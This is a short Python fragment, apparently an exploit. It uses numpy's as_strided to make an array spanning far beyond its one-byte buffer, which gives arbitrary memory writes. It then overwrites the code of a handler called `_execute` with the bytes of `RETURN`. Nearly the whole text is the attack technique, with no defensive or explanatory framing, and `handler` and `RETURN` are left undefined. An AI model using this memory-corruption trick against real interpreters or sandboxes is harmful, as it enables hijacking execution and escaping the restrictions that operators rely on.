# Rewrite the handler of `_execute` through an array that goes beyond its memory.
import numpy

base = numpy.zeros(1, numpy.uint8)
start = base.__array_interface__["data"][0]
memory = numpy.lib.stride_tricks.as_strided(base, (1 << 62,), (1 if handler() > start else -1,))
for i, byte in enumerate(RETURN):
    memory[abs(handler() + i - start)] = byte
